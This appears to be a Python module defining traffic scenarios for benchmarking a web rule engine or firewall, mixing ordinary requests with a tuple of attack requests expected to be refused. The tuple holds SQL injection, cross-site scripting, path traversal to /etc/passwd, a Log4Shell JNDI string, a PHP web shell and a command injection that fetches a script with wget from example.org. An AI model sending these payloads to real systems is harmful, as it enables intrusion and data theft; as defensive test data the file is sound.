"""What is sent in the scenarios of the rule engine: everyday requests and attacks, none like another.

A `{*}` becomes a word of nine letters that was hardly sent before, so that what remembers values gains
nothing by them, but in `get`, which is the same request again and again.
"""

import json
from typing import Any, Final
from urllib.parse import quote_plus

from load.bench.traffic import WORD, Request

_PATH: Final = "/service-5/users"
_FORM: Final = ("Content-Type", "application/x-www-form-urlencoded")
_JSON: Final = ("Content-Type", "application/json")
DEPTH: Final = 30
_FIELDS: Final = 250
_MANY_FIELDS: Final = 950

_GET: Final = Request(f"{_PATH}?page=3&sort=name&order=asc&q=garden+chairs&lang=en", ())
_RANDOM: Final = Request(f"{_PATH}?" + "&".join([f"{WORD}={WORD}"] * 5), ())

_ORDER: Final[dict[str, Any]] = {
    "order": {
        "customer": {"name": f"Ada {WORD}", "email": f"{WORD}@example.com", "vip": True},
        "items": [
            {"sku": f"{WORD}", "title": "Garden chair, oak", "quantity": 4, "price": 59.9},
            {"sku": f"{WORD}", "title": "Table lamp", "quantity": 1, "price": 120},
        ],
        "delivery": {"city": f"{WORD}", "street": f"{WORD} road 12", "express": False},
        "note": f"Please ring twice, {WORD}",
    }
}

# What people write in comment boxes, with words that a poor rule would take for SQL or a shell.
_PROSE: Final = " ".join(
    (
        f"Dear {WORD}, thank you for the quick delivery of the chairs.",
        "We had to select a different table from the catalogue, as the one we liked was sold out;",
        f"the {WORD} in oak is fine, too.",
        "Could you tell us whether the legs can be shortened by two or three centimetres?",
        "My husband (he is 1.95 m) says it's a bit low, I'd say it isn't, so we agreed to ask.",
        f"The finish is lovely: no scratches, no smell, and the order of the drawers is just as {WORD} said.",
        "One more thing - the update on the shipment came after the parcel.",
        "If you drop by with the missing screws, please use the back door; the front bell doesn't work.",
        f"Best wishes from {WORD}, and see you in spring!",
        f"P.S.: We would join your {WORD} programme if it is still open where we live.",
    )
)


def _form(fields: list[tuple[str, str]]) -> str:
    def text(value: str) -> str:
        return WORD.join(quote_plus(part) for part in value.split(WORD))

    return "&".join(f"{text(name)}={text(value)}" for name, value in fields)


def _post(fields: list[tuple[str, str]], *, refused: bool = False) -> Request:
    return Request(_PATH, (_FORM,), "POST", _form(fields), refused=refused)


def _wide(count: int) -> Request:
    return _post([(f"customer_{number:03}", f"{WORD} {WORD}") for number in range(count)])


def _deep() -> Request:
    document: Any = f"{WORD}"
    for level in range(DEPTH, 0, -1):
        document = {f"level_{level:02}": document, "name": f"{WORD}", "count": level}
    return Request(_PATH, (_JSON,), "POST", json.dumps(document))


def _attack(value: str) -> Request:
    """An attack in the query, where it is found again by the word behind it."""
    return Request(f"{_PATH}?{_form([('q', value), ('n', WORD)])}", (), refused=True)


_PROSE_FORM: Final = _post([("name", f"Ada {WORD}"), ("email", f"{WORD}@example.com"), ("comment", _PROSE)])
_JSON_ORDER: Final = Request(_PATH, (_JSON,), "POST", json.dumps(_ORDER))
_ATTACKS: Final = (
    _attack(f"1' OR '1'='1' -- {WORD}"),
    _attack("<script>alert(document.cookie)</script>"),
    _attack("../../../../../../etc/passwd"),
    _attack("1 UNION ALL SELECT username, password FROM users -- "),
    _attack("; cat /etc/passwd"),
    _attack('"><img src=x onerror=alert(1)>'),
    _attack("${jndi:ldap://example.org/a}"),
    _attack("<?php system($_GET['c']); ?>"),
    _post([("user", f"{WORD}"), ("password", "x' OR 1=1 -- ")], refused=True),
    _post([("comment", f"{WORD} <svg/onload=alert(1)>")], refused=True),
    _post([("host", "127.0.0.1; wget http://example.org/x.sh")], refused=True),
    Request(
        _PATH,
        (_JSON,),
        "POST",
        json.dumps({"id": "1; DROP TABLE users -- ", "name": f"{WORD}"}),
        refused=True,
    ),
)

# Of twenty: fourteen GET, four POST, two attacks.
_MIXED: Final = tuple(
    request
    for number in range(len(_ATTACKS) // 2)
    for request in (
        *([_RANDOM] * 7),
        _PROSE_FORM,
        _JSON_ORDER,
        _ATTACKS[2 * number],
        *([_RANDOM] * 7),
        _wide(20),
        _JSON_ORDER,
        _ATTACKS[2 * number + 1],
    )
)

REQUESTS: Final[dict[str, tuple[Request, ...]]] = {
    "get": (_GET,),
    "get-random": (_RANDOM,),
    "json": (_JSON_ORDER,),
    "prose": (_PROSE_FORM,),
    "form-250": (_wide(_FIELDS),),
    "form-950": (_wide(_MANY_FIELDS),),
    "json-deep": (_deep(),),
    "attacks": _ATTACKS,
    "mixed": _MIXED,
    "rules-1000": (_RANDOM,),
}
